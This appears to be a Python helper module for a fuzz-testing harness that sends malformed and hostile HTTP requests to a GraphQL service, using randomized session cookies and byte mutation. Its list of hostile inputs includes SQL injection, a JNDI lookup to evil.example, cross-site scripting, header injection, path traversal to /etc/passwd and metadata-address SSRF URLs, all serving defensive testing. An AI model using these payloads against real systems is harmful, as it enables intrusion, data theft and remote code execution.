"""What a hostile request is, and the small parts that all of them are made of."""

import json
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from random import Random
from typing import Any
from urllib.parse import quote

from tests.hostile.settlement import PORTAL, Settlement

JSON = "application/json"
GRAPHQL_RESPONSE = "application/graphql-response+json"

HOSTILE_TEXTS = (
    "",
    " ",
    "\x00",
    "a\x00b",
    "\ud800",
    "\udfff\ud800",
    "\ufeff",
    "\u202e\u0000",
    "\u2028",
    "ﬃ" * 50,
    "İ" * 100,
    "e" + "\u0301" * 500,
    "👩‍👩‍👧‍👦" * 20,
    "'; DROP TABLE users; --",
    '" OR 1=1 --',
    "%' ESCAPE '!",
    "\\",
    "%s%n%x",
    "{{7*7}}",
    "${jndi:ldap://evil.example/x}",
    "<script>alert(1)</script>",
    "a@b",
    "a@b.example\r\nBcc: c@d.example",
    "../../etc/passwd",
    "null",
    "https://127.0.0.1/",
    "https://[::ffff:169.254.169.254]/",
    "https://user@evil.example:99999/",
    "https://[",
    "NaN",
    "-0",
    "1e999",
    "0001-01-01T00:00:00+23:59",
    "9999-12-31T23:59:59-23:59",
    "2026-11-24T25:61:61Z",
    "2026-W48-2",
    "20261124T090000,5+00:00:01.000001",
    "99999999999999999999",
    "x" * 300,
    "x" * 20_000,
)
"""Each has been somebody's undoing somewhere."""

NUMBERS = (0, -1, 1, 101, 2**31 - 1, 2**31, -(2**31) - 1, 2**53, 2**63, 2**64, 10**30, 0.5, 1e308)


@dataclass(frozen=True)
class Targets:
    """What an attacker knows, and what he is told apart by."""

    settlement: Settlement
    host: str
    sign_ins: Sequence[tuple[str, str]]
    """Sign-ins under way: the state, and the cookie that goes with it."""

    def attackers(self) -> dict[str, list[str]]:
        """Who attacks by which sessions; Contoso's administrator does not."""
        return {
            name: cookies
            for name, cookies in self.settlement.cookies.items()
            if name != "administrator"
        }


@dataclass(frozen=True)
class Hostile:
    """One request on a connection of its own."""

    family: str
    data: bytes
    caller: str = "anonymous"
    pieces: int = 1
    """Sent in so many parts, with a pause after each."""
    is_complete: bool = True
    """Whether there is an answer to wait for: not if the request never ends."""
    leaves: bool = False
    """Whether the client leaves before there can be an answer."""


Headers = list[tuple[str | bytes, str | bytes]]
Generator = Callable[[Random, Targets], Hostile]


def rendered(
    method: str,
    target: str | bytes,
    headers: Sequence[tuple[str | bytes, str | bytes]],
    body: bytes | None = None,
    *,
    host: str,
) -> bytes:
    """A request on the wire: what is given, and what it needs besides to be HTTP/1.1."""
    names = {_bytes(name).lower() for name, _ in headers}
    lines = [b"%s %s HTTP/1.1" % (_bytes(method), _bytes(target))]
    if b"host" not in names:
        lines.append(b"Host: " + host.encode())
    lines += [_bytes(name) + b": " + _bytes(value) for name, value in headers]
    if body is not None and not names & {b"content-length", b"transfer-encoding"}:
        lines.append(b"Content-Length: %d" % len(body))
    lines.append(b"Connection: close")
    return b"\r\n".join([*lines, b"", body or b""])


def posted(
    body: bytes,
    *,
    host: str,
    headers: Sequence[tuple[str | bytes, str | bytes]] = (),
    accept: str = GRAPHQL_RESPONSE,
) -> bytes:
    """A POST to `/graphql`."""
    return rendered(
        "POST",
        "/graphql",
        [("Content-Type", JSON), ("Accept", accept), *headers],
        body,
        host=host,
    )


def signed_in(random: Random, targets: Targets) -> tuple[str, Headers]:
    """Somebody who may attack, and his header; or nobody."""
    if random.random() < 0.3:
        return "anonymous", []
    caller, cookies = random.choice(list(targets.attackers().items()))
    headers: Headers = [("Cookie", f"session={random.choice(cookies)}")]
    if random.random() < 0.2:
        headers.append(("Origin", PORTAL))
    return caller, headers


def as_json(value: Any) -> bytes:
    """JSON, in which lone surrogates are escaped."""
    return json.dumps(value).encode()


def hostile_text(random: Random) -> str:
    """A text that is somebody's undoing, or a random one."""
    if random.random() < 0.6:
        return random.choice(HOSTILE_TEXTS)
    length = random.choice((1, 3, 20, 200))
    top = random.choice((0x7F, 0x2FF, 0xFFFF, 0x10FFFF))
    return "".join(chr(random.randrange(top + 1)) for _ in range(length))


def hostile_value(random: Random, depth: int = 0) -> Any:
    """A JSON value of any kind."""
    kind = random.randrange(8 if depth < 3 else 5)
    if kind < 2:
        return hostile_text(random)
    if kind == 2:
        return random.choice(NUMBERS)
    if kind == 3:
        return random.choice((None, True, False))
    if kind == 4:
        return random.choice((float("inf"), float("nan"), -(10**400)))
    if kind == 5:
        return [hostile_value(random, depth + 1) for _ in range(random.randrange(4))]
    return {
        hostile_text(random)[:40]: hostile_value(random, depth + 1)
        for _ in range(random.randrange(4))
    }


def mutated(random: Random, data: bytes, times: int | None = None) -> bytes:
    """The data with bytes changed, left out, repeated or put in."""
    found = bytearray(data)
    for _ in range(times or random.choice((1, 1, 2, 5))):
        if not found:
            break
        at = random.randrange(len(found))
        until = min(len(found), at + random.choice((1, 1, 4, 16)))
        match random.randrange(5):
            case 0:
                found[at] = random.randrange(256)
            case 1:
                del found[at:until]
            case 2:
                found[at:at] = found[at:until] * random.choice((1, 3, 50))
            case 3:
                found[at:at] = random.choice((b"\x00", b"\xff", b'"', b"{", b"[", b"\\u", b"\r\n"))
            case _:
                del found[at:]
    return bytes(found)


def encoded(text: str) -> str:
    """Percent-encoded as bytes of UTF-8, lone surrogates too."""
    return quote(text.encode("utf-8", "surrogatepass"), safe="")


def _bytes(text: str | bytes) -> bytes:
    return text.encode("latin-1", "replace") if isinstance(text, str) else text
